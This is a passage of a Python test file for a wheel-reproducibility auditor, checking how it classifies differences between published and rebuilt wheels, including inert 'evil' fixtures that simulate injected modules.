    pub = wheel(tmp_path / "p.whl", members=_with(BASE, "METADATA", win))
    cmp = compare_other_platform(pub, reb, setup_py=setup_py)
    assert not cmp.differences and any("by the platform it builds on" in (d.cause or "") for d in cmp.compiled_differences)
    assert compare_other_platform(pub, reb, setup_py="setup(name='pkg')\n").differences  # setup.py names no pywin32
    assert compare_other_platform(pub, reb).differences  # no setup.py known
    base = meta + b"Requires-Dist: pywin32\n"  # a requirement of every install, even if setup.py names it
    cmp = compare_other_platform(wheel(tmp_path / "b.whl", members=_with(BASE, "METADATA", base)), reb, setup_py=setup_py)
    assert [d.path for d in cmp.differences if d.path.endswith("METADATA")]


def test_top_level_names_without_members_are_a_metadata_difference_with_their_cause(tmp_path):
    """pycasbin 2.7.1 and casbin-django-orm-adapter 1.7.0 (held-out corpus) list `dist` (and `examples`) in
    top_level.txt: directories of the publisher's tree, no member of the wheel; a name that does have
    members (an added package) is named without that cause, and the package itself is a code difference
    (top_level.txt is descriptive, class metadata: issue 47, tomli 2.4.0)."""
    reb = wheel(tmp_path / "r.whl", members=BASE + [("pkg-1.0.dist-info/top_level.txt", b"pkg\n", 0o644)])
    pub = wheel(tmp_path / "p.whl", members=BASE + [("pkg-1.0.dist-info/top_level.txt", b"dist\npkg\n", 0o644)])
    cmp = compare_wheels(pub, reb)
    (d,) = [d for d in cmp.differences if d.path.endswith("top_level.txt")]
    assert d.cls == "metadata" and "dist" in d.cause and verdict_of(cmp)[0] is Verdict.DIFFERS
    evil = wheel(tmp_path / "e.whl", members=BASE + [("pkg-1.0.dist-info/top_level.txt", b"evil\npkg\n", 0o644),
                                                    ("evil/__init__.py", b"import os\n", 0o644)])
    found = compare_wheels(evil, reb).differences
    assert [(d.cls, d.cause) for d in found if d.path.endswith("top_level.txt")] == [("metadata", None)]
    assert ("evil/__init__.py", "code") in [(d.path, d.cls) for d in found]


def test_a_bundled_librarys_license_in_a_wheel_that_grafts_libraries_is_listed(tmp_path):
    """shapely 2.1.2 (held-out corpus, once GEOS is in the image): every wheel carries
    dist-info/licenses/LICENSE_GEOS beside its grafted shapely.libs/ or .dylibs/; without grafted
    libraries the same file is a difference."""
    lic = ("pkg-1.0.dist-info/licenses/LICENSE_GEOS", b"GNU LESSER GENERAL PUBLIC LICENSE\n", 0o644)
    lib = ("pkg.libs/libgeos-abc.so.3.13", b"\x7fELF", 0o755)
    reb = wheel(tmp_path / "r.whl", members=BASE)
    cmp = compare_other_platform(wheel(tmp_path / "p.whl", members=BASE + [lic, lib]), reb)
    assert not cmp.differences and any("LICENSE_GEOS" in s for s in cmp.tool_steps), cmp.differences
    cmp = compare_wheels(wheel(tmp_path / "l.whl", members=BASE + [lic, lib]), reb, binary=True)
    assert verdict_of(cmp)[0] is Verdict.PARTIAL, cmp.differences
    assert compare_other_platform(wheel(tmp_path / "n.whl", members=BASE + [lic]), reb).differences


def test_class_code_is_what_python_can_import_or_execute(tmp_path):
    """Documentation, stubs, markers, C sources and the exec bit of a shared library are packaging (they never
    run: boto3's examples/*.rst, redis's py.typed, multidict's .pyi, fonttools' generated .c, rapidfuzz's exec
    bit, and on a module: issue 47, orderedmultidict 1.0.1); an added .py, a .pth, a script, a changed version file and
    an exec bit on a script stay code."""
    from auditor.judge.rules import classify

    for path in ("boto3/examples/s3.rst", "redis/py.typed", "multidict/__init__.pyi", "fontTools/cu2qu/cu2qu.c",
                 "pyarrow/lib.h", "pyarrow/lib_api.h", "pkg/README.md", "pkg/_x.pxd"):
        assert classify(path) == "packaging", path
    for path in ("pkg/evil.py", "evil.pth", "pkg/_version.py", "pkg/x.cpython-311-x86_64-linux-gnu.so",
                 "pkg-1.0.data/scripts/tool.rst", "pkg-1.0.dist-info/entry_points.txt", "pkg/data.json",
                 "pkg/__pycache__/x.cpython-311.pyc", "pkg/_x.pyx"):
        assert classify(path) == "code", path
    so = "pkg/_x.cpython-311-x86_64-linux-gnu.so"
    script = "pkg-1.0.data/scripts/run"
    base = BASE[:-1] + [(so, b"\x7fELF", 0o644), ("pkg/run.py", b"print(1)\n", 0o644), (script, b"#!python\n", 0o644),
                        BASE[-1]]
    modes = [(n, d, 0o755 if n in (so, "pkg/run.py", script) else m) for n, d, m in base]
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=modes), wheel(tmp_path / "r.whl", members=base), binary=True)
    assert {(d.path, d.cls) for d in cmp.differences if d.kind == "mode"} == {
        (so, "packaging"), ("pkg/run.py", "packaging"), (script, "code")}


def test_a_version_file_the_publishers_plugin_wrote_into_sdist_and_wheel_is_named(tmp_path):
    """tabulate 0.9.0: sdist and wheel hold setuptools_scm 2022's version.py (181 bytes); the rebuild's newer
    setuptools_scm writes another template for the same version. Accepted only as the sdist's own bytes
    stating the rebuild's version."""
    from auditor.judge.sources import extension_sources

    old = b"# coding: utf-8\n# file generated by setuptools_scm\n# don't change, don't track in version control\n" \
          b"__version__ = version = '0.9.0'\n__version_tuple__ = version_tuple = (0, 9, 0)\n"
    new = b"# file generated by setuptools-scm\n# don't change, don't track in version control\n\n" \
          b"__all__ = ['__version__', 'version']\n\n__version__ = version = '0.9.0'\n" \
          b"__version_tuple__ = version_tuple = (0, 9, 0)\n"
    src = tmp_path / "sdist"
    (src / "pkg").mkdir(parents=True)
    (src / "pkg" / "version.py").write_bytes(old)
    sources = extension_sources(src)

    def members(v: bytes):
        return BASE[:-1] + [("pkg/version.py", v, 0o644), BASE[-1]]

    reb = wheel(tmp_path / "r.whl", members=members(new))
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=members(old)), reb, sources=sources)
    assert verdict_of(cmp)[0] is Verdict.EQUIVALENT and any("the sdist's own copy" in t for t in cmp.tool_steps)
    other = old.replace(b"'0.9.0'", b"'0.9.1'")  # another version, though the sdist says so too
    (src / "pkg" / "version.py").write_bytes(other)
    cmp = compare_wheels(wheel(tmp_path / "p2.whl", members=members(other)), reb, sources=extension_sources(src))
    assert verdict_of(cmp)[0] is Verdict.DIFFERS
    (src / "pkg" / "version.py").write_bytes(old)  # a published copy that is not the sdist's
    evil = old + b"import os\n"
    cmp = compare_wheels(wheel(tmp_path / "p3.whl", members=members(evil)), reb, sources=extension_sources(src))
    assert verdict_of(cmp)[0] is Verdict.DIFFERS and [d.path for d in cmp.differences][0] == "pkg/version.py"


def test_a_cython_switch_is_found_when_the_wheel_ships_what_cython_generated(tmp_path):
    """fonttools 4.61.1's platform wheels ship the C files Cython generated beside the modules, built with
    FONTTOOLS_WITH_CYTHON=1, which its setup.py reads; a tracing switch (CYTHON_TRACE) is no such switch."""
    from auditor.plan.variants import variant

    so = "pkg/cu2qu.cpython-311-x86_64-linux-gnu.so"
    members = BASE[:-1] + [("pkg/cu2qu.c", b"/* Generated by Cython 3.0.11 */\nint x;\n", 0o644), (so, b"\x7fELF", 0o755),
                           BASE[-1]]
    wa = wheel(tmp_path / "w.whl", members=members)
    src = tmp_path / "src"
    src.mkdir()
    (src / "setup.py").write_text('import os\nwith_cython = os.environ.get("PKG_WITH_CYTHON")\n')
    name, env, _, notes = variant(wa, "pkg-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", src, "setuptools")
    assert name == "cython" and env == {"PKG_WITH_CYTHON": "1"} and "pkg/cu2qu.c" in notes[0]
    (src / "setup.py").write_text('import os\ntrace = os.environ.get("CYTHON_TRACE")\n')
    assert variant(wa, "pkg-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", src, "setuptools")[0] is None
    plain = wheel(tmp_path / "p.whl", members=BASE[:-1] + [(so, b"\x7fELF", 0o755), BASE[-1]])
    (src / "setup.py").write_text('import os\nwith_cython = os.environ.get("PKG_WITH_CYTHON")\n')
    assert variant(plain, "pkg-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", src, "setuptools")[0] is None


def test_a_failure_cause_carries_the_python_it_needs_as_a_field():
    from auditor.rebuild.failures import explain

    found = explain("AttributeError: module 'collections' has no attribute 'MutableMapping'")
    assert found is not None and found.needs_python == (3, 9) and found.text.startswith("needs Python 3.9 or older")
    assert explain("AttributeError: 'HTMLParser' object has no attribute 'unescape'").needs_python == (3, 8)
    assert explain("error: can't find Rust compiler").needs_python is None


def test_a_compiler_killed_by_the_memory_limit_says_so():
    """A mypyc build whose compiler the sandbox's memory limit killed said only "compilation terminated"."""
    from auditor.rebuild.failures import failure_cause

    log = ("building 'charset_normalizer' extension\ngcc: fatal error: Killed signal terminated program cc1\n"
           "compilation terminated.\nerror: command '/usr/bin/gcc' failed with exit code 1\n")
    cause = failure_cause(log)
    assert cause and "cc1" in cause and "--build-memory" in cause and "memory limit" in cause
    assert failure_cause("compilation terminated.\n") is None
    assert "ran out of memory" in (failure_cause("cc1plus: out of memory allocating 65536 bytes\n") or "")
